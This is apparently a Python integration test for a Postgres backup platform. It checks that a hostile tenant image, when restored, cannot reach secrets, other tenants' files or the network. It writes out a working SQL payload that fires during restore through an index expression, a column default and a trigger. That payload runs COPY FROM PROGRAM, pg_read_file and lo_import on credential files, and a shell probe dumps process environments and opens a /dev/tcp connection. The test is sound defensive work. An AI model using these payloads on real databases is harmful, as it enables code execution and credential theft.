"""Tenant isolation of restores (issue 25): an image's own code, replayed as superuser by the
restore's temporary server, reaches no deployment secret, no other tenant's files and no network.

One hostile source database carries code that runs during a restore: an expression index on an
IMMUTABLE-declared plpgsql function (it runs while the index is built and again in ANALYZE), which
inserts into a table whose column default and trigger run the same probe. The probe tries
`COPY ... FROM PROGRAM` (a shell reading /proc/*/environ, /proc/*/cmdline and every file of the
platform's state directory it can, and a TCP connection to a listener of this test),
`pg_read_file` and `lo_import` of the job's secret files. Whatever it finds lands in the table
`loot` of the restored database, which the test then reads.
"""

from __future__ import annotations

import base64
import re
import socket
import threading
from pathlib import Path

import dagster as dg
import psycopg
import pytest
from pydantic import SecretStr

from records import InstanceRef
from resources.platform.postgres_server import available_postgres_versions
from tests.helpers import failure_text, materialize_image, run_logs
from tests.test_drills import drill
from tests.test_encryption import encrypting, new_identity, private_key
from tests.test_restore import dsn_of, platform_instances, restore
from toygres_pipelines.dev.demo import provision_server, register_running
from toygres_pipelines.drills import jobs as drill_jobs
from toygres_pipelines.drills.counting import restored_counts

pytestmark = pytest.mark.integration

HOSTILE_PASSWORD = "hostile-Superuser-Pw-7f3a"

# The probe, run by the server's OS user. Its output is base64 (one line): COPY reads it as text.
PROBE_SHELL = r"""
{{
  echo "== uid $(id)"
  for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
    echo "== $f"; tr '\0' '\n' <"$f"
  done
  find {roots} -xdev -type f -readable 2>/dev/null | while IFS= read -r f; do
    echo "== readable $f"
    case "$f" in */pgdata/*|*.dump|*.log) ;; *) head -c 4096 "$f"; echo ;; esac
  done
  if (exec 3<>/dev/tcp/127.0.0.1/{port} && echo "tenant-code-was-here" >&3) 2>/dev/null; then
    echo "== TCP CONNECTED"
  fi
}} 2>/dev/null | base64 -w0; echo
"""

HOSTILE_SQL = r"""
CREATE FUNCTION snoop(via text) RETURNS text LANGUAGE plpgsql VOLATILE AS $fn$
DECLARE
  jobs text := {jobs};
  ns text; job text; name text; got text;
BEGIN
  -- the source server (reached over TCP) is not the target: the probe runs only in restores
  IF inet_server_port() IS NOT NULL OR strpos(coalesce(current_setting('toygres.probed', true), ''), via) > 0 THEN
    RETURN via;
  END IF;
  PERFORM set_config('toygres.probed', coalesce(current_setting('toygres.probed', true), '') || ',' || via, false);
  BEGIN
    EXECUTE format('COPY public.loot (found) FROM PROGRAM %L', {shell});
  EXCEPTION WHEN OTHERS THEN INSERT INTO public.loot VALUES (via, 'copy program refused: ' || SQLERRM); END;
  BEGIN
    FOR ns IN SELECT pg_ls_dir(jobs) LOOP
      FOR job IN SELECT pg_ls_dir(jobs || '/' || ns) LOOP
        FOREACH name IN ARRAY ARRAY['sas', 'age-identities', 'fetch/sas', 'fetch/age-identities'] LOOP
          BEGIN
            got := pg_read_file(jobs || '/' || ns || '/' || job || '/' || name);
            INSERT INTO public.loot VALUES (via, 'pg_read_file ' || name || ': ' || got);
          EXCEPTION WHEN OTHERS THEN NULL; END;
          BEGIN
            got := convert_from(lo_get(lo_import(jobs || '/' || ns || '/' || job || '/' || name)), 'UTF8');
            INSERT INTO public.loot VALUES (via, 'lo_import ' || name || ': ' || got);
          EXCEPTION WHEN OTHERS THEN NULL; END;
        END LOOP;
      END LOOP;
    END LOOP;
  EXCEPTION WHEN OTHERS THEN INSERT INTO public.loot VALUES (via, 'pg_ls_dir refused: ' || SQLERRM); END;
  INSERT INTO public.loot (found) VALUES ('probe ran in ' || via);
  RETURN via;
END $fn$;
CREATE TABLE loot (via text DEFAULT snoop('default'), found text);
CREATE FUNCTION probe_index(id int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $fn$
BEGIN PERFORM public.snoop('index expression'); RETURN id; END $fn$;
CREATE FUNCTION probe_trigger() RETURNS trigger LANGUAGE plpgsql AS $fn$
BEGIN PERFORM public.snoop('trigger'); RETURN NEW; END $fn$;
CREATE TABLE target (id int PRIMARY KEY);
INSERT INTO target VALUES (1);
CREATE INDEX target_probe ON target (probe_index(id));
CREATE TRIGGER loot_probe BEFORE INSERT ON loot FOR EACH ROW WHEN (NEW.via = 'default')
  EXECUTE FUNCTION probe_trigger();
"""


class Listener:
    """A TCP listener on 127.0.0.1 recording every connection and byte it receives."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                conn.settimeout(5)
                data = b"connected:"
                try:
                    while chunk := conn.recv(4096):
                        data += chunk
                except OSError:
                    pass
                self.received.append(data)

    def close(self) -> None:
        self.sock.close()


@pytest.fixture(scope="module")
def listener():
    listening = Listener()
    yield listening
    listening.close()


@pytest.fixture(scope="module")
def hostile_ref(platform, listener) -> InstanceRef:
    ref = InstanceRef(k8s_name="hostile-src", namespace="default")
    provision_server(platform, ref, SecretStr(HOSTILE_PASSWORD))
    endpoints = platform.endpoints(ref)
    admin = psycopg.conninfo.make_conninfo(
        host=endpoints.host, port=endpoints.port, user="postgres", password=HOSTILE_PASSWORD, dbname="postgres"
    )
    state = Path(platform.state_dir)
    roots = " ".join(str(p) for p in (state, Path("/tmp"), Path("/var/tmp")))
    shell = PROBE_SHELL.format(roots=roots, port=listener.port)
    with psycopg.connect(admin, autocommit=True) as conn:
        conn.execute("CREATE DATABASE hostile")
    with psycopg.connect(psycopg.conninfo.make_conninfo(admin, dbname="hostile"), autocommit=True) as conn:
        literal = lambda text: "'" + text.replace("'", "''") + "'"  # noqa: E731
        conn.execute(HOSTILE_SQL.format(jobs=literal(str(state / "jobs")), shell=literal(shell)))
        assert conn.execute("SELECT count(*) FROM loot").fetchone()[0] == 0  # inert on the source
    return ref


def loot_of(dsn: str) -> str:
    """Everything the probe found, decoded."""
    with psycopg.connect(dsn) as conn:
        rows = [found or "" for (found,) in conn.execute("SELECT found FROM loot").fetchall()]
    decoded = []
    for row in rows:
        try:
            decoded.append(base64.b64decode(row, validate=True).decode(errors="replace"))
        except ValueError:
            decoded.append(row)
    return "\n".join(decoded)


def assert_found_nothing(loot: str, listener: Listener, key: Path, state_dir: str, via: str) -> None:
    assert "probe ran in index expression" in loot, f"{via}: the hostile code did not run:\n{loot[:2000]}"
    assert "probe ran in default" in loot and "probe ran in trigger" in loot, via
    leaks = {
        "the age private key": private_key(key) in loot or "AGE-SECRET-KEY-" in loot,
        "a SAS signature": "sig=" in loot,
        "the instance password": HOSTILE_PASSWORD in loot,
        "a password variable": "PGPASSWORD" in loot or "POSTGRES_PASSWORD_FILE" in loot,
        "a SAS or key path": "AZCOPY_SAS" in loot or "AGE_IDENTITY_FILE" in loot or "BLOB_URL" in loot,
        "another instance's files": f"== readable {state_dir}/instances/" in loot,
        "the listener": bool(listener.received) or re.search("^== TCP CONNECTED$", loot, re.MULTILINE) is not None,
    }
    found = [what for what, leaked in leaks.items() if leaked]
    assert not found, f"{via}: tenant code found {found} (listener: {listener.received}):\n{loot[:3000]}"


def test_tenant_code_in_an_image_finds_no_secret_no_other_tenant_and_no_network(
    resources, cms, platform, hostile_ref, listener, tmp_path, monkeypatch
):
    key = tmp_path / "deployment.key"
    recipient = new_identity(key)
    sealed = encrypting(resources, platform, (key, recipient))
    source = register_running(cms, platform, hostile_ref)
    made = materialize_image(sealed, f"{source.k8s_name}__hostile")
    assert made.success, failure_text(made)
    image = cms.images.find(f"{source.k8s_name}__hostile")
    assert image.encryption_recipient == recipient  # there is a key to steal

    # A plain restore, and a selective one of the hostile database alone.
    for via, extra in (("restore", {}), ("selective restore", {"databases": ["hostile"]})):
        label = "plain-r" if not extra else "select-r"
        dagster = dg.DagsterInstance.ephemeral()
        result = restore(sealed, source_image_id=image.name, name=label, dns_label=label, instance=dagster, **extra)
        assert result.success, failure_text(result)
        # What the image's code does is surfaced, before it ran, in the log and the step's metadata.
        [step] = [
            e for e in result.all_node_events if e.step_key == "run_restore_job" and e.event_type_value == "STEP_OUTPUT"
        ]
        reported = step.event_specific_data.metadata["dangerous_content"].value
        for finding in ("COPY ... PROGRAM in FUNCTION public.snoop", "index target_probe calls public.probe_index()"):
            assert finding in reported and finding in run_logs(dagster, result.run_id)
        row = cms.instances.get(result.output_for_node("mark_instance_running").id)
        assert_found_nothing(
            loot_of(dsn_of(platform, row, HOSTILE_PASSWORD, "hostile")), listener, key, platform.state_dir, via
        )

    # A deployment that refuses such images refuses it before the image's code ran, leaving nothing.
    refusing = encrypting(resources, platform, (key, recipient), refuse_dangerous_images=True)
    before = platform_instances(platform)
    result = restore(refusing, source_image_id=image.name, name="refused-r", dns_label="refused-r")
    assert not result.success and "refused: database hostile holds functions that run COPY" in failure_text(result)
    assert platform_instances(platform) == before
    assert not list((Path(platform.state_dir) / "jobs").glob("*/restore-refused-r*/serve"))

    # An upgrade restore (15 -> 16) where this machine has 16.
    if "16" in available_postgres_versions():
        result = restore(
            sealed, source_image_id=image.name, name="upgrade-r", dns_label="upgrade-r", postgres_version="16"
        )
        assert result.success, failure_text(result)
        row = cms.instances.get(result.output_for_node("mark_instance_running").id)
        assert_found_nothing(
            loot_of(dsn_of(platform, row, HOSTILE_PASSWORD, "hostile")), listener, key, platform.state_dir, "upgrade"
        )

    # A drill: its scratch instance goes at the end, so the loot is read when the drill counts rows.
    dagster = dg.DagsterInstance.ephemeral()
    seen: list[str] = []

    def looting_then_counting(endpoints, password, manifest):
        seen.append(
            loot_of(
                psycopg.conninfo.make_conninfo(
                    host=endpoints.host,
                    port=endpoints.port,
                    user="postgres",
                    password=password.get_secret_value(),
                    dbname="hostile",
                )
            )
        )
        return restored_counts(endpoints, password, manifest)

    monkeypatch.setattr(drill_jobs, "restored_counts", looting_then_counting)
    drill(sealed, image.name, dagster)  # it fails the image: the probe's rows differ from the manifest's counts
    assert seen, "the drill never counted rows on its scratch instance"
    assert_found_nothing(seen[0], listener, key, platform.state_dir, "drill")
